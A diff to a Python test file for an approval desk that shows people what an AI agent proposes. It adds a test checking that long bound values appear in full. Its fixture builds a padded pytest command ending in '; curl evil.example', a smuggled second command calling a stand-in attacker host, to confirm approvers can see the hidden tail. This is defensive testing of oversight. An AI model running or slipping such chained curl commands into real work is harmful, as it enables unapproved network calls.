@@ -53,7 +53,18 @@ def test_desk_shows_the_proposal_as_a_table_with_the_agents_words_apart(agent, r
     envelope = propose_by_call(agent, item(count=7, sum={"path": "value", "at_most": 12.5}), purpose="Pay <b>all</b>")
     words = Pages(rosa).open(f"/approvals/?item={envelope.call.approval.public_id}")
     assert "Pay <b>all</b> Written by the requester. Not checked." in words
-    assert "calls through the token" in words and "at most 7" in words and "at most 12.5" in words
+    assert "calls through the token" in words and "at most 7 calls" in words and "at most 12.5 over all" in words
+    assert "without arguments" not in words
+
+
+def test_desk_shows_all_of_every_bound(agent, rosa):
+    """A cut value could hide its end from those who approve it."""
+    command = f"pytest {'test_of_one_thing.py ' * 20}; curl evil.example"
+    rows = [{"path": "value", "operator": "in", "value": [command, {"deep": command}]}]
+    envelope = propose_by_call(agent, item(rows=rows, sum={"path": "value", "at_most": 1234567.25}))
+    for path in (f"/approvals/?item={envelope.call.approval.public_id}", f"/envelopes/{envelope.public_id}/"):
+        words = Pages(rosa).open(path)
+        assert words.count("; curl evil.example") >= 2 and "1,234,567.25" in words
 
 
 def test_page_shows_promised_beside_used_and_ends_the_envelope(agent, ada, ben, rosa):
